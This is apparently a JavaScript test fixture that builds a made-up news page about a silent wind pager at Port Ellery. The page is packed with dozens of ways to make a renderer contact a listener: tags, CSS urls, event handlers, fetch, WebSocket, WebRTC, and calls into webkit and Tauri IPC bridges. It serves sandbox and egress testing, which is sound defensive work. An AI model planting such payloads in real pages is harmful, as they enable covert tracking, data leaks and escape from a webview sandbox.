// A page that tries every way we know to call home, each under a path of its own, so that a listener
// can name the way that worked. Every way is invented for this test; the article around them is too.

const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';

/** Ways that need nobody's help: they fire while the page loads. */
const onLoad = (u) => `
<link rel="stylesheet" href="${u('link-stylesheet')}">
<link rel="preload" as="image" href="${u('link-preload')}">
<link rel="modulepreload" href="${u('link-modulepreload')}">
<link rel="prefetch" href="${u('link-prefetch')}">
<link rel="preconnect" href="${u('')}">
<link rel="dns-prefetch" href="${u('')}">
<link rel="icon" href="${u('link-icon')}">
<link rel="manifest" href="${u('link-manifest')}">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="refresh" content="2; url=${u('meta-refresh')}">
<style>
  @import url("${u('css-import')}");
  @font-face { font-family: trap; src: url("${u('css-font')}"); }
  body { background: url("${u('css-background')}"); cursor: url("${u('css-cursor')}"), auto; }
  ul { list-style-image: url("${u('css-list')}"); }
  p { background-image: image-set(url("${u('css-image-set')}") 1x); }
  h1 { font-family: trap; }
</style>
<img src="${u('img-src')}" alt="a harbour">
<img srcset="${u('img-srcset')} 1x" alt="a crane">
<picture><source srcset="${u('picture-source')}"><img src="${PIXEL}" alt="a quay"></picture>
<input type="image" src="${u('input-image')}" alt="go">
<table background="${u('table-background')}"><tr><td background="${u('td-background')}">cell</td></tr></table>
<svg width="9" height="9"><image href="${u('svg-image')}" width="9" height="9"/><use href="${u('svg-use')}#a"/>
  <filter id="f"><feImage href="${u('svg-feimage')}"/></filter><rect width="9" height="9" filter="url(#f)"/>
  <script href="${u('svg-script')}"></script><animate onbegin="fetch('${u('svg-onbegin')}')" attributeName="x" dur="1s"/></svg>
<video src="${u('video-src')}" poster="${u('video-poster')}" autoplay><source src="${u('video-source')}"><track src="${u('video-track')}" default></video>
<audio src="${u('audio-src')}" autoplay></audio>
<object data="${u('object-data')}"></object>
<embed src="${u('embed-src')}">
<iframe src="${u('iframe-src')}"></iframe>
<iframe srcdoc="<img src='${u('srcdoc-img')}'><script>fetch('${u('srcdoc-script')}')</script>"></iframe>
<div style="background:url('${u('style-attribute')}')">by the quay</div>
<details open ontoggle="new Image().src='${u('details-ontoggle')}'"><summary>more</summary></details>
<img src="nothing:" onerror="new Image().src='${u('img-onerror')}'" alt="">
<body onload="new Image().src='${u('body-onload')}'">
<form id="f1" action="${u('form-auto')}"><input name="a" value="b"></form>
<math><annotation-xml encoding="text/html"><style><img src="${u('mathml-breakout')}"></style></annotation-xml></math>
<noscript><img src="${u('noscript-img')}"></noscript>
<script src="${u('script-src')}"></script>
<script>
  const go = (way, act) => { try { act(); } catch { /* the next way */ } };
  go('fetch', () => fetch('${u('fetch')}'));
  go('beacon', () => navigator.sendBeacon('${u('beacon')}', 'x'));
  go('socket', () => new WebSocket('${u('websocket')}'.replace('http', 'ws')));
  go('events', () => new EventSource('${u('eventsource')}'));
  go('worker', () => new Worker(URL.createObjectURL(new Blob(["fetch('${u('worker')}')"]))));
  go('open', () => window.open('${u('window-open')}'));
  go('form', () => document.getElementById('f1').submit());
  go('ipc', () => window.webkit.messageHandlers.ipc.postMessage('{"cmd":"desk"}'));
  go('top', () => window.top.__TAURI_INTERNALS__.invoke('desk', { name: 'app_state', request: null }));
  go('rtc', () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:${u('').replace(/^http:\/\//, '').replace(/\/$/, '')}' }] }).createOffer());
</script>`;

/** Ways that wait for a click. */
const onClick = (u) => `
<p><a id="plain" href="${u('link-plain')}">The full report</a></p>
<p><a id="blank" target="_blank" href="${u('link-blank')}">In a new window</a></p>
<p><a id="top" target="_top" href="${u('link-top')}">In this window</a></p>
<p><a id="ping" ping="${u('link-ping')}" href="#here">Here</a></p>
<p><a id="download" download href="${u('link-download')}">Download</a></p>
<p><a id="script" href="javascript:fetch('${u('link-javascript')}')">Play</a></p>
<form action="${u('form-button')}"><button id="button">Send</button></form>`;

/** The whole page; `origin` is where the listener waits. */
export function hostilePage(origin) {
  const u = (way) => `${origin}/${way}`;
  return `<!DOCTYPE html><html lang="en"><head><title>Crane operators at Port Ellery report a silent pager</title>
<base href="${origin}/base/"></head><body><article>
<h1>Crane operators at Port Ellery report a silent pager</h1>
<p>Crane operators at Port Ellery said on Tuesday that the paging system which warns them of high winds had
been silent for two nights, and that the harbour office had been told by letter.</p>
<p>The office said that it was looking into the matter and that no crane had been at work above the limit. It
asked operators to watch the flags until the pagers were back, and to note each gust above fifteen metres a second.</p>
${onLoad(u)}${onClick(u)}
<p><img src="relative.png" alt="relative to the base"></p>
</article></body></html>`;
}
